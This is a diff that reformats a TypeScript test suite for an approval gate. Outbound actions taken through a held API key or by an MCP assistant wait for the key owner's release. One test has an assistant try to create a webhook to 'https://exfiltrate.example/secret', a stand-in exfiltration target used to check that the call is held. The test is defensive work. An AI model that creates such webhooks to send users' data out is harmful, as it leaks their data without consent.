@@ -37,8 +37,24 @@ const letters: Module = {
         return { to, secret: 'shown once', by: ctx.actor.key?.name ?? 'nobody' }
       },
     }),
-    operation({ name: 'send_many_letters', kind: 'write', rest: 'POST /api/letters/many', about: 'Send letters', input: {}, output: z.unknown(), handle: async (_, ctx) => ctx.call('send_letter', { to: 'nested', text: 'hello' }) }),
-    operation({ name: 'export_letters', kind: 'read', rest: 'GET /api/letters/export', about: 'Export letters', outbound: true, output: z.strictObject({ letters: z.int() }), handle: async () => ({ letters: 7 }) }),
+    operation({
+      name: 'send_many_letters',
+      kind: 'write',
+      rest: 'POST /api/letters/many',
+      about: 'Send letters',
+      input: {},
+      output: z.unknown(),
+      handle: async (_, ctx) => ctx.call('send_letter', { to: 'nested', text: 'hello' }),
+    }),
+    operation({
+      name: 'export_letters',
+      kind: 'read',
+      rest: 'GET /api/letters/export',
+      about: 'Export letters',
+      outbound: true,
+      output: z.strictObject({ letters: z.int() }),
+      handle: async () => ({ letters: 7 }),
+    }),
   ],
 }
 
@@ -58,9 +74,14 @@ beforeEach(async () => {
 })
 after(() => served.close())
 
-const send = (body: object, headers: Record<string, string> = {}) => served.ask('POST', '/api/letters', { key: held.key, body: { text: 'hello', ...body }, headers })
+const send = (body: object, headers: Record<string, string> = {}) =>
+  served.ask('POST', '/api/letters', { key: held.key, body: { text: 'hello', ...body }, headers })
 const release = (id: string, who = bob) => who.post(`/web/approvals/${id}/release`)
-const labels = () => served.app.store.raw.read.prepare("SELECT count(*) FROM labels WHERE name LIKE 'sent to%'").pluck().get() as number
+const labels = () =>
+  served.app.store.raw.read
+    .prepare("SELECT count(*) FROM labels WHERE name LIKE 'sent to%'")
+    .pluck()
+    .get() as number
 
 test('what such a key sends waits, and is made once its owner releases it, in the name of the key', async () => {
   const before = labels()
@@ -69,26 +90,49 @@ test('what such a key sends waits, and is made once its owner releases it, in th
   assert.match(asked.json.message, /"helper" that needs Bob's approval/)
   const id = asked.json.approval_id as string
   const [row] = (await bob.get('/web/approvals')).json.items
-  assert.deepEqual([row.id, row.state, row.tool, row.arguments, row.key.name, row.asked_via], [id, 'pending', 'send_letter', { to: 'eve', text: 'hello' }, 'helper', 'api'])
+  assert.deepEqual(
+    [row.id, row.state, row.tool, row.arguments, row.key.name, row.asked_via],
+    [id, 'pending', 'send_letter', { to: 'eve', text: 'hello' }, 'helper', 'api'],
+  )
   assert.deepEqual([sent, labels()], [[], before])
   const got = await release(id)
-  assert.deepEqual([got.status, got.json.state, got.json.result], [200, 'released', { to: 'eve', secret: 'shown once', by: 'helper' }])
+  assert.deepEqual(
+    [got.status, got.json.state, got.json.result],
+    [200, 'released', { to: 'eve', secret: 'shown once', by: 'helper' }],
+  )
   assert.deepEqual([sent, labels()], [['eve: hello'], before + 1])
-  const calls = served.app.store.raw.read.prepare("SELECT tool, status, error_code, transport, key_id FROM calls WHERE tool IN ('send_letter', 'release_approval') ORDER BY seq DESC LIMIT 3").all() as Record<string, unknown>[]
-  assert.deepEqual(calls.map(one => [one.tool, one.status, one.error_code, one.transport, one.key_id]), [
-    ['release_approval', 'ok', null, 'web', null],
-    ['send_letter', 'ok', null, 'web', held.id],
-    ['send_letter', 'error', 'approval_required', 'rest', held.id],
-  ])
-  assert.deepEqual((await bob.get('/web/approvals?pending=false')).json.items[0].result, { to: 'eve', by: 'helper' }, 'without what is shown once')
+  const calls = served.app.store.raw.read
+    .prepare(
+      "SELECT tool, status, error_code, transport, key_id FROM calls WHERE tool IN ('send_letter', 'release_approval') ORDER BY seq DESC LIMIT 3",
+    )
+    .all() as Record<string, unknown>[]
+  assert.deepEqual(
+    calls.map((one) => [one.tool, one.status, one.error_code, one.transport, one.key_id]),
+    [
+      ['release_approval', 'ok', null, 'web', null],
+      ['send_letter', 'ok', null, 'web', held.id],
+      ['send_letter', 'error', 'approval_required', 'rest', held.id],
+    ],
+  )
+  assert.deepEqual(
+    (await bob.get('/web/approvals?pending=false')).json.items[0].result,
+    { to: 'eve', by: 'helper' },
+    'without what is shown once',
+  )
 })
 
 test('it is made once, however often it is released at the same time', async () => {
   const { json } = await send({ to: 'eve' })
   const got = await Promise.all(Array.from({ length: 8 }, () => release(json.approval_id)))
-  assert.deepEqual(got.map(one => one.status).sort(), [200, 409, 409, 409, 409, 409, 409, 409])
+  assert.deepEqual(got.map((one) => one.status).sort(), [200, 409, 409, 409, 409, 409, 409, 409])
   assert.deepEqual(sent, ['eve: hello'])
-  assert.equal(served.app.store.raw.read.prepare('SELECT count(*) FROM calls WHERE key_id = ? AND tool = ? AND status = ?').pluck().get(held.id, 'send_letter', 'ok'), 1)
+  assert.equal(
+    served.app.store.raw.read
+      .prepare('SELECT count(*) FROM calls WHERE key_id = ? AND tool = ? AND status = ?')
+      .pluck()
+      .get(held.id, 'send_letter', 'ok'),
+    1,
+  )
 })
 
 test('only the owner of the key decides, in a browser, and never with a key', async () => {
@@ -96,7 +140,16 @@ test('only the owner of the key decides, in a browser, and never with a key', as
   const path = `/web/approvals/${json.approval_id}`
   for (const one of ['release', 'deny']) {
     assert.equal((await ann.post(`${path}/${one}`)).status, 404, 'an administrator')
-    assert.equal((await served.ask('POST', `${path}/${one}`, { key: held.key, body: {}, headers: { origin: served.app.baseUrl } })).status, 401)
+    assert.equal(
+      (
+        await served.ask('POST', `${path}/${one}`, {
+          key: held.key,
+          body: {},
+          headers: { origin: served.app.baseUrl },
+        })
+      ).status,
+      401,
+    )
   }
   assert.deepEqual((await ann.get('/web/approvals')).json.items, [])
   assert.equal((await bob.post(`${path}/deny`)).json.state, 'denied')
@@ -117,27 +170,49 @@ test('the same call again is the same wait; with an idempotency key it brings wh
   for (const days of [0, 2]) {
     served.clock.pass(days * dayLong)
     const after = await keyed('one')
-    assert.deepEqual([after.status, after.json.to, after.json.secret, after.headers.get('idempotency-replayed')], [201, 'eve', undefined, 'true'].with(0, after.status))
+    assert.deepEqual(
+      [after.status, after.json.to, after.json.secret, after.headers.get('idempotency-replayed')],
+      [201, 'eve', undefined, 'true'].with(0, after.status),
+    )
   }
   assert.equal(sent.length, 1)
   const two = await keyed('two')
   await bob.signIn('bob@acme.test')
   await ann.signIn('ann@acme.test')
   await bob.post(`/web/approvals/${two.json.approval_id}/deny`)
-  assert.deepEqual([(await keyed('two')).status, (await keyed('two')).json.approval_id], [403, two.json.approval_id])
+  assert.deepEqual(
+    [(await keyed('two')).status, (await keyed('two')).json.approval_id],
+    [403, two.json.approval_id],
+  )
 })
 
 test('what is wrong with a call is said at once, and what goes nowhere is not held', async () => {
   assert.equal((await send({ to: 'eve', label_id: 'lbl_00000000000000000000000000' })).status, 404)
   assert.equal((await send({ to: {} })).status, 400)
-  assert.equal((await send({ to: 'eve', text: `see ${served.bearer}` })).json.code, 'live_key_in_content')
-  for (const to of ['eve', 'me']) assert.equal((await send({ to }, { 'idempotency-key': held.key })).json.code, 'live_key_in_content', to)
+  assert.equal(
+    (await send({ to: 'eve', text: `see ${served.bearer}` })).json.code,
+    'live_key_in_content',
+  )
+  for (const to of ['eve', 'me'])
+    assert.equal(
+      (await send({ to }, { 'idempotency-key': held.key })).json.code,
+      'live_key_in_content',
+      to,
+    )
   assert.equal((await send({ to: 'eve', dry_run: true })).status, 200)
   assert.equal((await send({ to: 'me' })).status, 200)
   const { key } = await served.keyFor(served.bob)
-  assert.equal((await served.ask('POST', '/api/letters', { key, body: { to: 'eve', text: 'hello' } })).status, 200, 'another key')
+  assert.equal(
+    (await served.ask('POST', '/api/letters', { key, body: { to: 'eve', text: 'hello' } })).status,
+    200,
+    'another key',
+  )
   assert.equal((await served.ask('GET', '/api/labels', { key: held.key })).status, 200)
-  assert.equal((await bob.post('/web/call/send_letter', { to: 'eve', text: 'hello' })).status, 200, 'the person')
+  assert.equal(
+    (await bob.post('/web/call/send_letter', { to: 'eve', text: 'hello' })).status,
+    200,
+    'the person',
+  )
 })
 
 test('an operation that sends by way of another one waits as a whole, and so does what reads to send', async () => {
@@ -151,7 +226,8 @@ test('an operation that sends by way of another one waits as a whole, and so doe
 })
 
 test('what turns out to wait only while it is made keeps its idempotency key', async () => {
-  const ask = () => served.ask('POST', '/api/letters/many', { key: held.key, body: { idempotency_key: 'monday' } })
+  const ask = () =>
+    served.ask('POST', '/api/letters/many', { key: held.key, body: { idempotency_key: 'monday' } })
   const { json } = await ask()
   await release(json.approval_id)
   const again = await ask()
@@ -159,11 +235,23 @@ test('what turns out to wait only while it is made keeps its idempotency key', a
 })
 
 test('a webhook that somebody stopped sends again only once that is released, however it was to come back', async () => {
-  const { id } = (await bob.post('/web/call/create_webhook', { url: 'https://93.184.216.34/hook', events: ['task.*'] })).json
-  const ask = (method: string, path: string, body: object | undefined = {}) => served.ask(method, path, { key: held.key, ...(method === 'DELETE' ? {} : { body }) })
-  const isActive = async () => (await bob.post('/web/call/list_webhooks', {})).json.items.some((one: { id: string; active: boolean }) => one.id === id && one.active)
+  const { id } = (
+    await bob.post('/web/call/create_webhook', {
+      url: 'https://93.184.216.34/hook',
+      events: ['task.*'],
+    })
+  ).json
+  const ask = (method: string, path: string, body: object | undefined = {}) =>
+    served.ask(method, path, { key: held.key, ...(method === 'DELETE' ? {} : { body }) })
+  const isActive = async () =>
+    (await bob.post('/web/call/list_webhooks', {})).json.items.some(
+      (one: { id: string; active: boolean }) => one.id === id && one.active,
+    )
   const waits = async (got: { status: number; json: { code: string; approval_id: string } }) => {
-    assert.deepEqual([got.status, got.json.code, await isActive()], [409, 'approval_required', false])
+    assert.deepEqual(
+      [got.status, got.json.code, await isActive()],
+      [409, 'approval_required', false],
+    )
     assert.equal((await release(got.json.approval_id)).status, 200)
     assert.ok(await isActive())
   }
@@ -175,9 +263,17 @@ test('a webhook that somebody stopped sends again only once that is released, ho
   const deleted = await ask('DELETE', `/api/webhooks/${id}`)
   await waits(await ask('POST', `/api/trash-items/${id}/restore`))
   const renamed = await ask('PATCH', `/api/webhooks/${id}`, { name: 'Bridge' })
-  assert.deepEqual([deleted.status, renamed.status, (await undo(renamed.headers.get('x-call-id'))).status], [200, 200, 200], 'nothing more goes out by these')
+  assert.deepEqual(
+    [deleted.status, renamed.status, (await undo(renamed.headers.get('x-call-id'))).status],
+    [200, 200, 200],
+    'nothing more goes out by these',
+  )
   assert.equal((await ask('DELETE', `/api/webhooks/${id}`)).status, 200)
-  assert.equal((await bob.post(`/web/call/restore_item`, { item_id: id })).status, 200, 'the person')
+  assert.equal(
+    (await bob.post(`/web/call/restore_item`, { item_id: id })).status,
+    200,
+    'the person',
+  )
 })
 
 test('a call that fails when it is released has not happened, and still waits', async () => {
@@ -191,8 +287,18 @@ test('a call is released no more after seven days, nor once its key has ended', 
   served.clock.pass(7 * dayLong)
   await bob.signIn('bob@acme.test')
   assert.deepEqual((await release(old.json.approval_id)).json.code, 'conflict')
-  assert.deepEqual((await bob.get('/web/approvals')).json.items.filter((one: { id: string }) => one.id === old.json.approval_id), [])
-  assert.equal((await bob.get('/web/approvals?pending=false')).json.items.find((one: { id: string }) => one.id === old.json.approval_id).state, 'expired')
+  assert.deepEqual(
+    (await bob.get('/web/approvals')).json.items.filter(
+      (one: { id: string }) => one.id === old.json.approval_id,
+    ),
+    [],
+  )
+  assert.equal(
+    (await bob.get('/web/approvals?pending=false')).json.items.find(
+      (one: { id: string }) => one.id === old.json.approval_id,
+    ).state,
+    'expired',
+  )
   const fresh = await send({ to: 'eve' })
   assert.notEqual(fresh.json.approval_id, old.json.approval_id)
   await revokeKey(served.app.store, served.clock, served.dataDir, { key: held.id })
@@ -201,14 +307,26 @@ test('a call is released no more after seven days, nor once its key has ended', 
   served.clock.pass(40 * dayLong)
   held = await served.keyFor(served.bob, { name: 'helper', holdOutbound: true })
   await send({ to: 'eve' })
-  const left = await listApprovals(served.app.store, served.clock.now(), { pending: false, limit: 100 })
+  const left = await listApprovals(served.app.store, served.clock.now(), {
+    pending: false,
+    limit: 100,
+  })
   assert.equal(left.length, 1, 'what is long over is forgotten')
 })
 
 test('an assistant over MCP is told what it waits for, and a webhook waits, too, before its address is looked up', async () => {
   const key = (await served.app.keys.authenticate(`Bearer ${held.key}`, 'mcp', { ip: '' })).key
-  const result = await callTool(served.app, assistantOf(served, served.bob, { key }), { name: 'create_webhook', arguments: { url: 'https://exfiltrate.example/secret', events: ['task.*'] } }, {} as ToolMessage)
-  const { code, approval_id } = (result as { structuredContent: Record<string, string> }).structuredContent
+  const result = await callTool(
+    served.app,
+    assistantOf(served, served.bob, { key }),
+    {
+      name: 'create_webhook',
+      arguments: { url: 'https://exfiltrate.example/secret', events: ['task.*'] },
+    },
+    {} as ToolMessage,
+  )
+  const { code, approval_id } = (result as { structuredContent: Record<string, string> })
+    .structuredContent
   assert.equal(code, 'approval_required')
   await bob.signIn('bob@acme.test')
   const got = await release(approval_id!)
